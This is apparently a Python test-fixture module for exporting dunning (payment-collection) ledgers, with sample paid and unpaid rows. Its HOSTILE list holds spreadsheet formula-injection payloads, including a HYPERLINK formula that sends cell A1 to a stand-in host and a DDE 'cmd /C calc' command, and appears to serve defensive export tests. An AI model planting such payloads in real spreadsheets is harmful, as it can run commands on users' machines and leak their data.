"""Small ledgers for the tests of the formats."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

from campaigns.kinds.dunning_ledger import (
    ContactResult,
    DetailRow,
    SummaryRow,
    detail_ledger,
    summary_ledger,
)
from campaigns.ledger import Ledger

DAY = date(2026, 3, 3)

ROW = DetailRow(
    task_id=1,
    dunned_on=DAY,
    handler="小顾",
    placed_on=date(2026, 3, 2),
    buyer="山楂树下",
    owed_fen=123_450,
    result=ContactResult.PAID,
    paid_on=date(2026, 3, 4),
    paid_fen=41_150,
)
UNPAID_ROW = replace(
    ROW, buyer="00123", result=ContactResult.AWAITING_PAYMENT, paid_on=None, paid_fen=0
)

# What a formula in a spreadsheet begins with, and where it can hide.
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
HIDDEN = ("{}1+1", " {}1+1", "\u00a0{}1+1", "\u3000 {}1+1", "甲\n{}1+1", "甲\r\n {}1+1")
HOSTILE = [
    *(place.format(start) for start in STARTS for place in HIDDEN),
    '=HYPERLINK("http://x.invalid/?"&A1,"点我")',
    "@SUM(A1:A9)",
    "+86 184",
    "-2+3+cmd|' /C calc'!A1",
    "http://x.invalid/",
    "'=1",
    '","=1+1',
]


def details(*buyers: str) -> Ledger[DetailRow]:
    """A detail ledger; without names one paid and one unpaid row."""
    rows = [replace(ROW, buyer=buyer) for buyer in buyers] or [ROW, UNPAID_ROW]
    return detail_ledger(rows, DAY, DAY, None)


def summary() -> Ledger[SummaryRow]:
    """The summary of the same two rows."""
    return summary_ledger([ROW, UNPAID_ROW], DAY, DAY, None)
